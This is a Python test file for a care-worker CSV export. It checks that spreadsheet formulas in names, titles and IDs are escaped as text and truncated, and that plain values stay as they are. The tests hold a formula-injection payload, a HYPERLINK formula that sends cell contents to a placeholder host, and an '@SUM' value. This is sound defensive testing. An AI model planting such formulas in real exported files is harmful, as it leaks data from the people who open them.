"""The care files that are taken away: nothing in them runs in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from leadwell.gateways.asc_wds.worker_job import LONGEST_DESCRIPTION
from leadwell.gateways.asc_wds.writing import WorkerOut, worker_cells, written

FORMULA = '=HYPERLINK("https://example.invalid/" & A1)' + "x" * 200


def worker(**more: str) -> WorkerOut:
    told = {
        "workplace": "W1",
        "number": "7",
        "name": "Asha",
        "title": "Carer",
        "job_role": "",
        **more,
    }
    return WorkerOut(**told, status="NEW", started_on=date(2024, 1, 1), bank=False)


def taken_away(**more: str) -> dict[str, str]:
    content = written("worker", [worker_cells(worker(**more))])
    return next(csv.DictReader(io.StringIO(content.decode())))


def test_a_formula_in_a_name_or_a_title_is_text_and_no_longer_than_it_may_be():
    row = taken_away(name=FORMULA, title=FORMULA, number="@SUM(A1)")
    assert row["DISPLAYID"][:2] == row["MAINJRDESC"][:2] == "'="
    assert row["UNIQUEWORKERID"] == "'@SUM(A1)"
    assert (len(row["DISPLAYID"]), len(row["MAINJRDESC"])) == (50, LONGEST_DESCRIPTION)


@pytest.mark.parametrize("said", ["+44 20 7946 0000", "-1", "7", "Asha"])
def test_what_is_no_formula_stays_as_it_is(said):
    assert taken_away(number=said)["UNIQUEWORKERID"] == said
